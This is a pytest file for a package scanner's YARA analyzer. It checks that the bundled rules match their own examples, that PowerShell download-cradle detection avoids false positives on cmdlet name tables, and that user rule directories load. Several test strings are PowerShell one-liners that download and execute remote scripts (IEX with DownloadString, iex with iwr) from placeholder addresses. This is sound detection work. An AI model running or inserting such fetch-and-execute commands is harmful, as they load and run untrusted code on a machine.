"""YARA: bundled rules carry and pass their own examples; user rule directories; errors."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yara_x

from builders import tar_bytes, write, zip_bytes
from finalexam.analyze import ANALYZERS
from finalexam.analyze.binary.analyzer import BinaryAnalyzer
from finalexam.analyze.yara import RULES_DIR, YaraAnalyzer, example_matches
from finalexam.config import Config
from finalexam.errors import ConfigError
from finalexam.exam import run_exam
from finalexam.matching.yara import rule_files
from schema import assert_valid_report

BUNDLED = sorted(RULES_DIR.glob("*.yar"))


def test_both_analyzers_are_registered() -> None:
    assert BinaryAnalyzer in ANALYZERS
    assert YaraAnalyzer in ANALYZERS


def _example(meta: dict[str, object], kind: str) -> bytes | None:
    if f"example_{kind}_hex" in meta:
        return bytes.fromhex(str(meta[f"example_{kind}_hex"]))
    if f"example_{kind}" in meta:
        return str(meta[f"example_{kind}"]).encode()
    return None


def _matched(path: Path, data: bytes) -> list[str]:
    """Rule names YARA-X matches in ``data`` with the rules of ``path`` alone."""
    scanner = yara_x.Scanner(yara_x.compile(path.read_text()))
    return [rule.identifier for rule in scanner.scan(data).matching_rules]


@pytest.mark.parametrize("path", BUNDLED, ids=lambda p: p.stem)
def test_bundled_rule_examples(path: Path) -> None:
    rules = yara_x.compile(path.read_text())
    rule = next(iter(rules))
    meta = dict(rule.metadata)
    for key in ("description", "severity", "kind"):
        assert meta.get(key), key
    match, benign = _example(meta, "match"), _example(meta, "benign")
    assert match is not None and benign is not None, "each rule carries both examples"
    assert rule.identifier == path.stem  # rule name == file stem
    assert _matched(path, match) == [rule.identifier]
    assert _matched(path, benign) == []
    assert example_matches(path.stem, match) and not example_matches(path.stem, benign)


def test_matches_nested_files_with_offsets(tmp_path: Path) -> None:
    cradle = b"# setup\nIEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/x')\n"
    target = write(tmp_path / "pkg.zip", zip_bytes({"tools/install.ps1": cradle}))
    report = run_exam(target, Config())
    finding = next(f for f in report.findings if f.rule_id == "yara.powershell_download_cradle")
    assert str(finding.location) == "pkg.zip!/tools/install.ps1"
    assert finding.severity.value == "high"
    assert finding.evidence.details["tags"] == ["behavior"]
    assert finding.evidence.offset == cradle.index(b"IEX")
    assert "example_match" not in finding.evidence.details["meta"]


def test_cradle_words_far_apart_in_a_program_are_no_cradle() -> None:
    """restic (Debian): cobra's PowerShell completion script (``| Invoke-Expression``) and a
    ``DownloadFileByName`` method name, megabytes apart in one Go binary."""
    rules = RULES_DIR / "powershell_download_cradle.yar"
    completion = b"\t%[1]s completion powershell | Out-String | Invoke-Expression\n"
    program = (
        b"\x7fELF" + b"blazer/base.(*Bucket).DownloadFileByName\x00" + bytes(4096) + completion
    )
    assert _matched(rules, program) == []
    script = b"$wc = New-Object System.Net.WebClient\n$s = $wc.DownloadString($u)\n"
    script += b"Invoke-Expression $s\n"
    assert _matched(rules, script) and _matched(rules, script.decode().encode("utf-16-le"))


def test_a_table_of_cmdlet_names_is_no_cradle() -> None:
    """pypandoc-binary 1.17: pandoc's syntax highlighter lists PowerShell's cmdlets in order,
    each padded in a table (Invoke-Expression, Invoke-History, ..., Invoke-WebRequest): names,
    not a command. A cradle in the same program still matches."""
    rules = RULES_DIR / "powershell_download_cradle.yar"
    names = ["Invoke-Expression", "Invoke-History", "Invoke-Item", "Invoke-RestMethod",
             "Invoke-TroubleshootingPack", "Invoke-WebRequest", "Invoke-WmiMethod"]  # fmt: skip
    pad = b"\xc0\x80" * 8
    table = b"".join(name.encode() + pad + bytes([len(name)]) for name in names)
    program = b"\x7fELF" + bytes(4096) + table + bytes(4096) + table.lower()
    assert _matched(rules, program) == []
    cradle = b"iex (iwr https://203.0.113.7/a.ps1)"
    assert _matched(rules, program + bytes(4096) + cradle)
    # names put between the parts of a cradle hide nothing: code sits between them
    hidden = b"Invoke-Expression (Invoke-History; Invoke-Item x; (New-Object Net.WebClient)"
    assert _matched(rules, hidden + b".DownloadString('http://203.0.113.7/a.ps1'))")


def test_an_alternation_of_cmdlet_names_is_no_cradle() -> None:
    """mediawiki's ace editor: its PowerShell mode lists cmdlets as a regular expression's
    alternation (``...|Invoke-Expression|Invoke-RestMethod|Invoke-WebRequest|...``). A pipe
    with spaces into a download, or a cradle beside the list, still matches."""
    rules = RULES_DIR / "powershell_download_cradle.yar"
    keywords = b'var builtinFunctions = "Get-Item|Invoke-Expression|Invoke-RestMethod|'
    keywords += b'Invoke-WebRequest|Out-String";\n'
    assert _matched(rules, keywords) == []
    assert _matched(rules, keywords.decode().encode("utf-16-le")) == []
    cradle = b"Invoke-Expression (Invoke-WebRequest -Uri https://203.0.113.7/a.ps1).Content"
    assert _matched(rules, keywords + cradle)
    assert _matched(rules, b"Invoke-Expression | Invoke-WebRequest https://203.0.113.7/a.ps1")


def test_user_rule_directories_recursive_with_includes(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    write(
        rules / "common" / "strings.yar",
        b'rule marker { strings: $a = "ACME-MARKER" condition: $a }\n',
    )
    write(
        rules / "team" / "acme.yara",
        b'include "../common/strings.yar"\n'
        b'rule acme_beacon : c2 { meta: severity = "critical" kind = "malicious" '
        b'strings: $b = "beacon.acme.invalid" condition: $b and marker }\n',
    )
    assert len(rule_files(RULES_DIR, [str(rules)])) == len(BUNDLED) + 2
    target = write(tmp_path / "app.bin", b"xx ACME-MARKER yy beacon.acme.invalid zz")
    report = run_exam(target, Config(yara_rules=(str(rules),)))
    found = {f.rule_id: f for f in report.findings}
    beacon = found["yara.user0/team/acme.yara.acme_beacon"]
    assert beacon.severity.value == "critical" and beacon.kind.value == "malicious"
    assert beacon.evidence.details["tags"] == ["c2"]


def test_compile_error_is_a_config_error(tmp_path: Path) -> None:
    write(tmp_path / "bad" / "broken.yar", b"rule broken { condition: nonsense_identifier }\n")
    with pytest.raises(ConfigError, match="does not compile"):
        YaraAnalyzer(Config(yara_rules=(str(tmp_path / "bad"),)))
    with pytest.raises(ConfigError, match="not found"):
        YaraAnalyzer(Config(yara_rules=(str(tmp_path / "missing"),)))


def test_cli_bad_rules_exit_2_one_line(tmp_path: Path) -> None:
    write(tmp_path / "bad" / "broken.yar", b"rule broken {\n condition: nonsense\n}\n")
    target = write(tmp_path / "a.txt", b"hello")
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "finalexam",
            "scan",
            str(target),
            "--yara-rules",
            str(tmp_path / "bad"),
        ],
        capture_output=True,
        text=True,
        env={**os.environ},
        check=False,
    )
    assert result.returncode == 2
    assert result.stderr.strip().count("\n") == 0
    assert re.search(r"YARA rule does not compile: .*broken\.yar", result.stderr)
    assert "Traceback" not in result.stderr


def test_cli_scan_reports_binaries_section(tmp_path: Path) -> None:
    elf = Path(sys.executable).resolve().read_bytes()
    target = write(tmp_path / "dist.zip", zip_bytes({"bin/python": elf, "bin/cut": elf[:3000]}))
    out = tmp_path / "r.json"
    result = subprocess.run(
        [sys.executable, "-m", "finalexam", "scan", str(target), "-o", f"json={out}"],
        capture_output=True,
        text=True,
        check=False,
    )
    # the truncated copy could not be examined as a binary: the exam is incomplete
    assert result.returncode in (1, 3), result.stderr
    document = json.loads(out.read_text())
    assert_valid_report(document)
    (entry,) = document["binaries"]
    assert entry["location"] == "dist.zip!/bin/python"
    assert entry["format"] == "elf" and set(entry["hardening"]) >= {"nx", "relro", "canary"}
    assert any(
        i["location"] == "dist.zip!/bin/cut"
        and "corrupt binary" in i["message"]
        and i["kind"] == "corrupt"
        for i in document["issues"]
    )
    assert document["complete"] is False
    assert not any(f["severity"] in ("high", "critical") for f in document["findings"])


def test_archives_are_scanned_through_their_members(tmp_path: Path) -> None:
    pe = bytes.fromhex("4d5a" + "00" * 58 + "40000000" + "50450000")
    target = write(tmp_path / "dist.tar", tar_bytes({"pad.txt": "x" * 700, "lib/tool.dll": pe}))
    report = run_exam(target, Config())
    embedded = [f for f in report.findings if f.rule_id == "yara.embedded_pe"]
    assert embedded == []  # the DLL starts at offset 0 of its own member


def test_behaviour_matches_in_manuals_and_tests_are_leads_not_stops(tmp_path: Path) -> None:
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')\n"
    archive = write(
        tmp_path / "pkg-1.0.tar.gz",
        tar_bytes(
            {
                "pkg-1.0/doc/install.rst": "Install scoop first::\n\n  " + cradle,
                "pkg-1.0/tests/fixture.ps1": cradle,
                "pkg-1.0/pkg/boot.ps1": cradle,
            },
            mode="w:gz",
        ),
    )
    report = run_exam(archive, Config(only=("yara",)))
    found = {
        f.location.path: (f.severity.value, f.context)
        for f in report.findings
        if f.rule_id == "yara.powershell_download_cradle" and f.location
    }
    assert found == {
        "pkg-1.0/doc/install.rst": ("high", "docs"),
        "pkg-1.0/tests/fixture.ps1": ("high", "test"),
        "pkg-1.0/pkg/boot.ps1": ("high", "shipped"),
    }
    blocked = {v.message for v in report.verdict.violations}
    assert len(blocked) == 1 and "pkg/boot.ps1" in next(iter(blocked))
